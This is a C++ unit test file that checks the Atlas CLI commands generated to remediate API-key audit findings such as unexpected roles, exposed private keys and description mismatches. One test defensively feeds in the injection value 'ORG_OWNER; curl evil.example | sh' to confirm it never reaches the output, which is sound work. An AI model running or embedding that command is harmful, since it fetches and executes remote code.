// What to do about each kind of finding, as commands of the Atlas CLI.
#include "report/mend.h"

#include <doctest/doctest.h>
#include <fmt/format.h>

#include "report/world.h"
#include "support/audited.h"

namespace aka::report {
namespace {

using model::FindingKind;
using test::kKey;
using test::kOrganization;
using test::kOtherProject;
using test::kProject;

const std::string kProjectId(kProject);
const std::string kOnProject = "@" + kProjectId;

model::Finding finding(FindingKind kind, std::string role = {}, std::string project = {}) {
  model::Finding result;
  result.kind = kind;
  result.role = std::move(role);
  result.project_id = std::move(project);
  return result;
}

model::Policy exact(std::vector<std::string> roles) {
  model::Policy policy;
  policy.description = model::DescriptionRule(std::string("it's ours"));
  policy.roles = model::RoleRules{test::patterns(std::move(roles)), {}, {}, true};
  return policy;
}

model::Policy open_rules() {
  model::Policy policy;
  policy.description = model::DescriptionRule(base::TextPattern::compile("^ci .*").value());
  policy.roles = model::RoleRules{{}, test::patterns({"ORG_*"}), {}};
  return policy;
}

/// The commands, one a line, with the ids that recur written short.
std::string commands(const model::Key& key, model::Findings findings) {
  model::KeyStatus status;
  status.findings = std::make_shared<const model::Findings>(std::move(findings));
  const model::Organization organization = test::organization_of("prod", kOrganization, {key});
  std::string text;
  for (const Step& step : mend({organization, key, status})) {
    CHECK_FALSE(step.advice.empty());
    text += step.command + "\n";
  }
  for (const auto& [id, word] :
       {std::pair(kKey, "KEY"), std::pair(kOrganization, "ORG"), std::pair(kProject, "PROJECT"),
        std::pair(kOtherProject, "OTHER")}) {
    for (std::size_t at = text.find(id); at != std::string::npos; at = text.find(id)) {
      text.replace(at, id.size(), word);
    }
  }
  return text;
}

TEST_CASE("each kind of finding has its commands") {
  const model::Key ci =
      test::key(exact({"ORG_MEMBER", "ORG_GROUP_CREATOR", "GROUP_OWNER" + kOnProject,
                       "GROUP_READ_ONLY" + kOnProject}));
  const model::Key open = test::key(open_rules());
  struct Case {
    std::string name;
    model::Key key;
    model::Findings findings;
    std::string commands;
  };
  const std::vector<Case> cases{
      {"nothing", ci, {}, ""},
      {"a role of the organization, exact rules",
       ci,
       {finding(FindingKind::role_unexpected, "ORG_OWNER")},
       "atlas organizations apiKeys assign KEY --orgId ORG --role ORG_GROUP_CREATOR,ORG_MEMBER\n"},
      {"several roles of one scope are mended at once",
       ci,
       {finding(FindingKind::role_unexpected, "GROUP_CLUSTER_MANAGER", kProjectId),
        finding(FindingKind::role_missing, "GROUP_OWNER", kProjectId)},
       "atlas projects apiKeys assign KEY --projectId PROJECT --role "
       "GROUP_OWNER,GROUP_READ_ONLY\n"},
      {"a role on a project that the exact rules do not name",
       ci,
       {finding(FindingKind::role_unexpected, "GROUP_OWNER", std::string(kOtherProject))},
       "atlas projects apiKeys delete KEY --projectId OTHER\n"},
      {"no role asked for on the organization",
       test::key(exact({})),
       {finding(FindingKind::role_unexpected, "ORG_MEMBER")},
       "atlas organizations apiKeys delete KEY --orgId ORG\n"},
      {"rules that leave a choice leave it to a person",
       open,
       {finding(FindingKind::role_forbidden, "ORG_OWNER"),
        finding(FindingKind::role_unexpected, "GROUP_OWNER", kProjectId)},
       "atlas organizations apiKeys describe KEY --orgId ORG\n"
       "atlas organizations apiKeys assign KEY --orgId ORG --role '<every role it should keep "
       "there>'\n"
       "atlas projects apiKeys assign KEY --projectId PROJECT --role '<every role it should keep "
       "there>'\n"},
      {"a pattern on any project",
       open,
       {finding(FindingKind::role_missing, "GROUP_*", "*")},
       "atlas organizations apiKeys describe KEY --orgId ORG\n"
       "atlas projects apiKeys assign KEY --projectId '<id>' --role '<every role it should keep "
       "there>'\n"},
      {"a role of unknown scope",
       ci,
       {finding(FindingKind::role_unexpected, "ORG_MEMBER", "unknown")},
       "atlas organizations apiKeys describe KEY --orgId ORG\n"},
      {"an exact description, quoted",
       ci,
       {finding(FindingKind::description_mismatch)},
       "atlas organizations apiKeys assign KEY --orgId ORG --desc 'it'\\''s ours'\n"},
      {"a description that must fit",
       open,
       {finding(FindingKind::description_mismatch)},
       "atlas organizations apiKeys assign KEY --orgId ORG --desc '<a text that fits ^ci .*>'\n"},
      {"another public key", ci, {finding(FindingKind::public_key_changed)}, "\n"},
      {"an exposed private key",
       ci,
       {finding(FindingKind::private_key_exposed)},
       "atlas organizations apiKeys delete KEY --orgId ORG\n"},
      {"a missing key",
       ci,
       {finding(FindingKind::key_missing)},
       "atlas organizations apiKeys create --orgId ORG --desc 'it'\\''s ours' --role "
       "ORG_GROUP_CREATOR,ORG_MEMBER\n"},
      {"a key that must stay deleted",
       test::absent_key(),
       {finding(FindingKind::key_present)},
       "atlas organizations apiKeys delete KEY --orgId ORG\n"},
  };
  for (const Case& row : cases) {
    CAPTURE(row.name);
    CHECK(commands(row.key, row.findings) == row.commands);
  }
}

TEST_CASE("what is waived needs no mending") {
  model::Findings findings{finding(FindingKind::role_unexpected, "ORG_OWNER")};
  findings.front().waived = true;
  CHECK(commands(test::key(exact({"ORG_MEMBER"})), findings).empty());
}

TEST_CASE("no command holds what the service said") {
  const std::string evil = "ORG_OWNER; curl evil.example | sh";
  for (const model::Policy& policy : {exact({"ORG_MEMBER"}), open_rules()}) {
    model::Findings findings;
    for (const FindingKind kind : model::kFindingKinds) {
      findings.push_back(finding(kind, evil));
      findings.back().actual = evil;
    }
    CHECK(commands(test::key(policy), findings).find("evil") == std::string::npos);
  }
}

TEST_CASE("a text that cannot be pasted faithfully is left to a person") {
  model::Policy policy = exact({"ORG_MEMBER"});
  policy.description = model::DescriptionRule(std::string("two\nlines"));
  CHECK(commands(test::key(policy), {finding(FindingKind::description_mismatch)}) ==
        "atlas organizations apiKeys assign KEY --orgId ORG --desc '<the description of the "
        "policy>'\n");
}

}  // namespace
}  // namespace aka::report
